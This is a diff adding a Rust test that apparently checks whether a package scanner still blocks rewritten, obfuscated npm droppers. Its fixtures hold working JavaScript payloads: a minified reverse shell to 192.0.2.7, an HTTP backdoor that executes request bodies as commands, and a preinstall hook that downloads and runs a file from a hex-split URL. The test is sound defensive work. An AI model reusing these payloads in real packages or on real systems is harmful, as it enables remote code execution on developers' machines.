@@ -2487,3 +2487,56 @@ fn files_required_by_own_directory_paths_run_on_import() {
     let analysis = analyse(&package);
     assert_stopped(&analysis, &package);
 }
+
+/// The rewrites attackers apply keep a dropper a dropper (bench/metamorphic.py
+/// measures them on the real corpus): strings cut into pieces, `require` under a
+/// minified name, a request handler's parameter named `e`, a small minified file,
+/// a top-level `return`.
+#[test]
+fn rewritten_droppers_stay_stopped() {
+    // A reverse shell, minified: `require` aliased to `o`, everything on one line.
+    let minified = airlock_test::PackageBuilder::new("nonce-kit", "1.0.0")
+        .file(
+            "index.js",
+            "function p(){var o=global.require||global.process.mainModule.constructor._load;\
+             if(o){var e=o(\"net\"),s=o(\"child_process\").spawn(\"/bin/sh\",[]),c=this;\
+             c.socket=e.connect(1111,(\"19\"+\"2.0.2\"+\".7\"),function(){c.socket.pipe(s.stdin),\
+             s.stdout.pipe(c.socket)})}}p();",
+        )
+        .build();
+    let analysis = analyse(&minified);
+    assert_rule(&analysis, "fetch-and-run");
+    assert_stopped(&analysis, &minified);
+
+    // A request body run as a command, the handler's parameters minified.
+    let backdoor = airlock_test::PackageBuilder::new("evil-server", "1.0.0")
+        .file(
+            "index.js",
+            "const x=require(\"child_process\").execSync;require(\"http\").createServer(function(e,t){\
+             let n=[];e.on(\"data\",e=>{n.push(e)}).on(\"end\",()=>{t.end(x(Buffer.concat(n).toString()))})\
+             }).listen(8124);",
+        )
+        .build();
+    let analysis = analyse(&backdoor);
+    assert_rule(&analysis, "evaluates-requests");
+    assert_stopped(&analysis, &backdoor);
+
+    // A download written to a path spelled in hex pieces and run from the same
+    // pieces, after a top-level `return` CommonJS allows.
+    let pieces = airlock_test::PackageBuilder::new("colour-strings", "1.0.0")
+        .script("preinstall", "node ./setup.js")
+        .file(
+            "setup.js",
+            "if (process.env.CI) return;\n\
+             const http = require('http'), fs = require('fs'), cp = require('child_process');\n\
+             http.get((\"\\x68\\x74\" + \"tp://\") + \"192.0.2.7\" + (\"/p\" + \"ayload\"), function (r) {\n\
+               var f = fs.createWriteStream((\"/tm\" + \"p/x\"));\n\
+               r.on('data', function (d) { f.write(d); });\n\
+               r.on('end', function () { f.end(); cp.exec((\"/tm\" + \"p/x\")); });\n\
+             });\n",
+        )
+        .build();
+    let analysis = analyse(&pieces);
+    assert_message(&analysis, "at install");
+    assert_stopped(&analysis, &pieces);
+}
